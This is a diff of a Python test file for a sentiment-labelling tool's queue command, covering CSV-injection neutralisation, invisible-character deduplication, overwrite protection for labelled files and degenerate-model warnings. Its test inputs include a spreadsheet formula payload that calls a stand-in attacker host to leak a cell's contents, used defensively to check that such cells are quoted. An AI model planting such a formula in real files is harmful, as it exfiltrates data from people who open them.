@@ -13,6 +13,8 @@ from click.testing import CliRunner
 
 from lorasent.artifacts import atomic_write_text, jsonl_text
 from lorasent.cli import main
+from lorasent.stages.split import normalise_text
+from lorasent.tables import spreadsheet_text
 from lorasent.tools.label_queue import (
     Pool,
     QueueError,
@@ -22,6 +24,7 @@ from lorasent.tools.label_queue import (
     header,
     rank_pool,
     relabel_rows,
+    relabel_warnings,
     uncertainty,
     write_queue,
     written_by_queue,
@@ -229,7 +232,9 @@ def test_queue_on_the_tiny_run(tiny_run, tmp_path):
     out = tmp_path / "q.csv"
     run(tiny_run, "lorasent", "queue", str(pool), "--budget", "6", "--relabel",
         "--out", str(out))
-    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    # each cell as it was: a tweet's "@user ..." is written "'@user ..." for spreadsheets
+    rows = [{k: spreadsheet_text(v) for k, v in r.items()}
+            for r in csv.DictReader(out.open(encoding="utf-8", newline=""))]
     queued = [r for r in rows if not r["given_label"]]
     assert [r["rank"] for r in rows] == [str(i) for i in range(1, len(rows) + 1)]
     assert len(queued) == 6 and {r["text"] for r in queued} <= set(fresh)
@@ -277,6 +282,8 @@ def test_the_queue_trial_runs_both_arms_and_compares(tiny_copy):
               "--budget", "4", "--name", "qt", logs=True)
     queued = list(csv.DictReader((tiny_copy / "qt-queued.csv").open(encoding="utf-8")))
     assert len(queued) == 4
+    for r in queued:  # as written: a formula-like cell (a tweet's "@user ...") has a quote
+        r["text"] = spreadsheet_text(r["text"])
     for arm in ("random", "queued"):
         rows = [json.loads(line) for line in
                 (tiny_copy / f"qt-{arm}.jsonl").read_text(encoding="utf-8").splitlines()]
@@ -293,3 +300,165 @@ def test_the_queue_trial_runs_both_arms_and_compares(tiny_copy):
     assert "qt-random" in shown and "qt-queued" in shown
     assert "Experiment has been saved as: qt-random" in out
     assert "wrote reports/qt-random-vs-qt-queued/report.md" in out, out
+
+
+# ------------------------------------- issue 51: formulas, labelled files, invisible texts
+
+HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A2,"Click")', "@SUM(A1)", "-x-",
+           "+1+1", "\tt", "'tis", "plain"]
+
+
+def test_the_queue_neutralises_formulas_and_every_reader_gets_the_texts_back(tmp_path):
+    """OWASP's CSV injection: a cell a spreadsheet would run is written with a leading
+    quote; the queue's own reading of the file (predict's --input reader) and the fetch
+    stage (the labelled file as data) give the texts back as they were."""
+    from lorasent.stages.fetch import read_labelled
+    from lorasent.tools.predict import open_inputs
+
+    preds = [_pred(t, [0.4, 0.35, 0.25], note=f"=c{i}") for i, t in enumerate(HOSTILE)]
+    out = io.StringIO()
+    write_queue(rank_pool(preds, LABELS, "margin", len(preds)), LABELS, "margin", ["note"],
+                out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert [row[:3] for row in rows[1:]] == [
+        ["'=c0", '\'=HYPERLINK("http://attacker.example/?leak="&A2,"Click")', ""],
+        ["'=c1", "'@SUM(A1)", ""], ["'=c2", "'-x-", ""], ["'=c3", "'+1+1", ""],
+        ["'=c4", "'\tt", ""], ["'=c5", "''tis", ""], ["'=c6", "plain", ""]]
+    assert rows[1][3:8] == ["negative", "0.400000", "0.350000", "0.250000", "0.050000"]
+    # a labeller fills in two labels and saves
+    rows[1][2], rows[2][2] = "negative", "positive"
+    path = tmp_path / "to_label.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(rows)  # \r\n, as spreadsheets save
+    assert written_by_queue(path)
+    with open_inputs(str(path)) as inputs:
+        assert [(t, c["note"]) for t, c in inputs.rows] == [
+            (t, f"=c{i}") for i, t in enumerate(HOSTILE)]
+    labelled = read_labelled(path, text_column="text", label_column="label",
+                             encoding="utf-8", separator="auto")
+    assert [(r["text"], r["label"]) for r in labelled] == [
+        (HOSTILE[0], "negative"), (HOSTILE[1], "positive"), *((t, "") for t in HOSTILE[2:])]
+
+
+def test_texts_with_invisible_characters_are_already_labelled():
+    """A zero-width space, soft hyphen, byte-order mark or word joiner added to a split's
+    text does not make it a new text."""
+    split = {normalise_text("I love it")}
+    texts = ["I\u200b love it", "I lo\u00adve it", "\ufeffI love it", "I love\u2060 it",
+             "I love it!"]
+    rows: list[tuple[str, dict[str, str]]] = [(text, {}) for text in texts]
+    pool = clean_pool(rows, split)
+    assert pool.rows == [("I love it!", {})]
+    assert pool.dropped == {"blank": 0, "duplicate": 0, "in_splits": 4}
+
+
+def _labelled_queue_file(path, labels, *, bom=False, separator=","):
+    """A queue file as a spreadsheet saves it after labelling: CRLF line ends, maybe a
+    byte-order mark and another separator; ``labels`` fill the label column in order."""
+    preds = [_pred(f"text {i}", [0.4, 0.35, 0.25], id=str(i)) for i in range(len(labels))]
+    out = io.StringIO()
+    write_queue(rank_pool(preds, LABELS, "margin", len(preds)), LABELS, "margin", ["id"], out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    for row, label in zip(rows[1:], labels, strict=True):
+        row[2] = label
+    text = io.StringIO()
+    csv.writer(text, delimiter=separator).writerows(rows)
+    path.write_bytes(("\ufeff" if bom else "").encode() + text.getvalue().encode("utf-8"))
+    return path.read_bytes()
+
+
+@pytest.mark.parametrize(("bom", "separator"), [(False, ","), (True, ","), (True, ";")])
+def test_a_labelled_queue_file_is_never_replaced_without_force(workspace, bom, separator):
+    """12 labels filled in and saved by a spreadsheet, then the queue run again: refused
+    before any model loads, in one line, the file as it was and nothing else written."""
+    path = workspace / "to_label.csv"
+    before = _labelled_queue_file(path, ["negative", "", "positive"] * 6 + [" "] * 2,
+                                  bom=bom, separator=separator)
+    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
+    assert result.exit_code == 1, result.output
+    assert result.output == (
+        "lorasent queue: error: --out to_label.csv: holds 12 labelled rows (its label column "
+        "is filled in); the queue would replace it. Give another --out, or pass --force to "
+        "replace it (the old file is then kept as to_label.csv.1.bak). Nothing was written\n")
+    assert path.read_bytes() == before
+    assert sorted(p.name for p in workspace.iterdir()) == ["data", "pool.csv", "to_label.csv"]
+
+
+def test_an_unreadable_out_file_counts_as_labelled(workspace):
+    path = workspace / "to_label.csv"
+    path.write_text('text,label\n"open quote,x\n', encoding="utf-8")
+    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
+    assert result.output == (
+        "lorasent queue: error: --out to_label.csv: cannot be read as a CSV, so whether its "
+        "label column is filled in cannot be told; the queue would replace it. Give another "
+        "--out, or pass --force to replace it (the old file is then kept as "
+        "to_label.csv.1.bak). Nothing was written\n")
+
+
+@pytest.fixture
+def fake_adapter(monkeypatch):
+    """The queue's model calls replaced: every text scored ``probs`` (``probs[0]``: the
+    probabilities of all texts), no model loaded; the fast tier runs the command whole."""
+    from types import SimpleNamespace
+
+    import lorasent.contracts
+    import lorasent.modeling
+    import lorasent.tools.predict
+
+    probs = [[0.2, 0.3, 0.5]]
+
+    def stream(model, encoder, labels, rows, batch_size, **kw):
+        for text, columns in rows:
+            yield _pred(text, probs[0], **columns)
+
+    monkeypatch.setattr(lorasent.tools.predict, "check_adapter_folder", lambda path: None)
+    monkeypatch.setattr(lorasent.contracts, "read_temperature_scaling", lambda path: None)
+    monkeypatch.setattr(lorasent.modeling, "load_trained_model", lambda *a, **kw: (
+        None, None, SimpleNamespace(labels=LABELS), None))
+    monkeypatch.setattr(lorasent.tools.predict, "stream_predictions", stream)
+    return probs
+
+
+def test_force_keeps_the_labelled_file_aside_under_a_new_name(workspace, fake_adapter):
+    path = workspace / "to_label.csv"
+    before = _labelled_queue_file(path, ["negative", "positive", ""])
+    (workspace / "to_label.csv.1.bak").write_text("someone's\n", encoding="utf-8")
+    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "2", "--force"])
+    assert result.exit_code == 0, result.output
+    assert ("kept the old to_label.csv (2 labelled rows) as to_label.csv.2.bak\n"
+            in result.stderr)
+    assert (workspace / "to_label.csv.2.bak").read_bytes() == before
+    assert (workspace / "to_label.csv.1.bak").read_text(encoding="utf-8") == "someone's\n"
+    assert written_by_queue(path)
+    assert [r["text"] for r in csv.DictReader(path.open(encoding="utf-8", newline=""))] == [
+        "new text", "another"]
+
+
+def test_a_queue_file_without_labels_is_replaced_and_nothing_kept(workspace, fake_adapter):
+    _labelled_queue_file(workspace / "to_label.csv", ["", " "])
+    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
+    assert result.exit_code == 0, result.output
+    assert "kept the old" not in result.stderr
+    assert sorted(p.name for p in workspace.iterdir()) == ["data", "pool.csv", "to_label.csv"]
+
+
+def test_relabel_with_a_degenerate_adapter_says_so(workspace, fake_adapter):
+    """An adapter that predicts one class for every row: evaluate warns of it, and so
+    does the queue before the label audit's rows."""
+    atomic_write_text(workspace / "data/split/train.jsonl", jsonl_text(
+        [{"id": f"t{i}", "text": f"train {i}", "label": label, "label_id": LABELS.index(label)}
+         for i, label in enumerate(["negative", "neutral", "positive"] * 4)]))
+    fake_adapter[0] = [0.05, 0.05, 0.9]
+    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1", "--relabel"])
+    assert result.exit_code == 0, result.output
+    assert (
+        "warning: --relabel on the training split: never predicted: `negative` (4 of 12 "
+        "training rows are negative), `neutral` (4 of 12 training rows are neutral); the "
+        "adapter is degenerate (one class for nearly every row), so the rows the label audit "
+        "flags are its failures more than label errors: retrain it before relabelling (the "
+        "evaluate stage warns of the same in metrics/eval.json)\n"
+        "warning: --relabel on the training split: `positive` is predicted for 12 of 12 rows "
+        "(100%), though 33% of them are positive; the adapter is degenerate") in result.stderr
+    # one class for every row, as many as the labels say: not degenerate
+    assert relabel_warnings([_pred(f"t{i}", [0.2, 0.3, 0.5]) for i in range(3)],
+                            ["positive"] * 3, LABELS) == []
